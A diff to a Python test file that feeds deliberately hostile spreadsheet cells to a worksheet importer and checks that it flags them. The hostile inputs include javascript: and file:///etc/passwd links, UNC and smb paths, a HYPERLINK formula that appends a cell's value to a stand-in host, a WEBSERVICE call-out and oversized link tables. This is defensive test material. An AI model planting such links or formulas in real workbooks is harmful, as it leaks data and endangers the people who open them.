@@ -5,7 +5,7 @@ from __future__ import annotations
 from typing import TYPE_CHECKING
 
 from integrity_zone.exports.worksheet.layout import lay_out
-from tests.support.hostile_workbooks.book import REAL, STYLES, Book, Hostile, Read
+from tests.support.hostile_workbooks.book import LINKS_OF_JAWABAN, OFFICE, REAL, STYLES, Book, Hostile, Read
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -32,7 +32,7 @@ def not_values() -> Iterator[Hostile]:
         ("error of a reference", 't="e"><v>#REF!</v>'),
         ("error of a division", 't="e"><v>#DIV/0!</v>'),
         ("error as formula", 't="e"><f>NA()</f><v>#N/A</v>'),
-        ("true", 't="b"><v>1</v>'),
+        ("false", 't="b"><v>0</v>'),
         ("day in ISO", 't="d"><v>2026-01-02T00:00:00</v>'),
         ("not a number", "><v>NaN</v>"),
         ("infinity", "><v>INF</v>"),
@@ -85,6 +85,8 @@ def surroundings() -> Iterator[Hostile]:
         ("binary decimal", Book().number(_SURVEY_CELL, "3.6000000000000001"), Read({SURVEY: "3.6"})),
         ("power of ten", Book().number(_COUNT_CELL, "1.2E1"), Read({COUNT: "12"})),
         ("zeros in front", Book().text(_COUNT_CELL, "007"), Read({COUNT: "7"})),
+        ("true", Book().cell(_CHOICE_CELL, 't="b"><v>1</v>'), Read({CHOICE: "Ya"})),
+        ("unit", Book().text(_COUNT_CELL, "12 kali"), Read({COUNT: "12"})),
         ("full-width figures", Book().text(_COUNT_CELL, "\uff11\uff12"), Read({COUNT: "12"})),
     ):
         yield Hostile(f"around: {name}", book, outcome)
@@ -126,5 +128,47 @@ def evidence() -> Iterator[Hostile]:
     place, key = f"M{_LAYOUT.indicators[CHOICE]}", f"{CHOICE} evidence"
     for address in ("javascript:alert(1)", "file:///etc/passwd", "\\\\server\\bagian\\x", "smb://server/x"):
         yield Hostile(f"evidence: {address}", Book().text(place, address), Read({key: address}))
-    link = Book().formula(place, "HYPERLINK(&quot;https://contoh.invalid/a&quot;,&quot;SK&quot;)", "<v>SK</v>")
-    yield Hostile("evidence: link in a formula", link, Read())
+    link = Book().formula(place, "HYPERLINK(&quot;https://contoh.invalid/a&quot;,&quot;SK&quot;)", "<v>X</v>")
+    yield Hostile("evidence: link in a formula", link, Read({key: "SK"}, findings=frozenset({"written-link"})))
+    called = Book().formula(place, "HYPERLINK(&quot;javascript:alert(1)&quot;,&quot;SK&quot;)", "<v>X</v>")
+    yield Hostile("evidence: call in a formula", called, Read({key: "SK"}, findings=frozenset({"link-left"})))
+    for name, formula in (
+        ("put together", "HYPERLINK(&quot;https://contoh.invalid/?&quot;&amp;K6,&quot;SK&quot;)"),
+        ("asked of the web", "WEBSERVICE(&quot;https://contoh.invalid/a&quot;)"),
+    ):
+        book = Book().formula(place, formula, "<v>https://contoh.invalid/b</v>")
+        outcome = Read({key: None}, findings=frozenset({"evidence-formula"}))
+        yield Hostile(f"evidence: address {name} by a formula", book, outcome)
+    yield from _links_behind(place, key)
+
+
+def _links_behind(place: str, key: str) -> Iterator[Hostile]:
+    """Links behind a word, which nobody sees."""
+    left = Read({key: "SK"}, findings=frozenset({"link-left"}))
+    for address in (
+        *(
+            "javascript:alert(1)",
+            "file:///D:/bukti/SK.pdf",
+            "\\\\server\\bagian\\SK.pdf",
+            "smb://server/x",
+            "data:,x",
+        ),
+        *("../SK.pdf", "https://siapa:sandi@contoh.invalid/", "http://", "https://contoh.invalid/" + "a" * 9_000),
+        "https://contoh.invalid/a b",
+    ):
+        book = Book().text(place, "SK").link(place, address)
+        yield Hostile(f"behind a word: {address[:40]}", book, Read({key: "SK"}) if "://" in address else left)
+    one = '<hyperlinks><hyperlink ref="{}" r:id="rId9" xmlns:r="{}"/></hyperlinks>'
+    nowhere = Book().text(place, "SK").behind(one.format(place, OFFICE))
+    yield Hostile("behind a word: no table of addresses", nowhere, left)
+    for name, relations in (("broken", "<Relationships"), ("empty", f'<Relationships xmlns="{OFFICE}"/>')):
+        book = Book().text(place, "SK").behind(one.format(place, OFFICE)).put(LINKS_OF_JAWABAN, relations)
+        yield Hostile(f"behind a word: {name} table of addresses", book, left)
+    many = "".join(f'<hyperlink ref="T{row}" r:id="rId{row}"/>' for row in range(1, 18_000))
+    listed = f'<hyperlinks xmlns:r="{OFFICE}">{many * 6}</hyperlinks>'
+    book = Book().text(place, "SK").behind(listed)
+    yield Hostile("behind a word: 100,000 links", book, Read({key: "SK"}, findings=frozenset({"many-links"})))
+    wide = Book().text(place, "SK").link("A1:XFD1048576", "https://contoh.invalid/")
+    yield Hostile("one link behind everything", wide, Read({key: "SK"}))
+    tall = Book().text(place, "SK").link("A1:XFD20000", "https://contoh.invalid/")
+    yield Hostile("one link behind all that is read", tall, Read({key: "SK"}))
